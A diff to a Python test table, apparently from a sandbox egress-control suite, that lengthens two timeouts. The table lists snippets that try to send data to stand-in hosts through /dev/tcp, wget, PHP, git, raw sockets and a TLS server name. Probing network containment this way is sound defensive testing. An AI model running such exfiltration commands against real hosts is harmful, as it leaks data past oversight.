@@ -83,7 +83,7 @@ WEB: dict[str, tuple[str, str]] = {
     "grpc": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80))\n"
         "s.send(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9)); s.close()"),
     "a name in a handshake": ("to secret.example", "import ssl\n"
-        f"s = socket.create_connection(('{OUT}', 443)); s.settimeout(3)\n"
+        f"s = socket.create_connection(('{OUT}', 443)); s.settimeout(10)\n"
         "c = ssl._create_unverified_context()\n"
         "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
     "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
@@ -100,7 +100,7 @@ WEB: dict[str, tuple[str, str]] = {
     "php": (f"to {OUT}", f"sh:timeout 5 php -r '@file_get_contents(\"http://{OUT}/secret\");'"),
     "bash": (f"to {OUT}", f"sh:bash -c 'echo secret >/dev/tcp/{OUT}/80'"),
     "wget": ("to out.example", "sh:timeout 5 wget -q -t 1 http://out.example/secret"),
-    "git": ("to out.example", "sh:timeout 5 git ls-remote https://out.example/secret"),
+    "git": ("to out.example", "sh:timeout 10 git ls-remote https://out.example/secret"),
     "fast open by connect": (f"to {OUT}", f"s = socket.socket(); s.setsockopt(6, 30, 1)\ns.connect(('{OUT}', 80)); s.send(b'x'); s.close()"),
     "vfork": (f"to {OUT}", f"import subprocess\nsubprocess.run(['bash', '-c', 'echo x >/dev/tcp/{OUT}/80'], close_fds=False)"),
 }  # fmt: skip
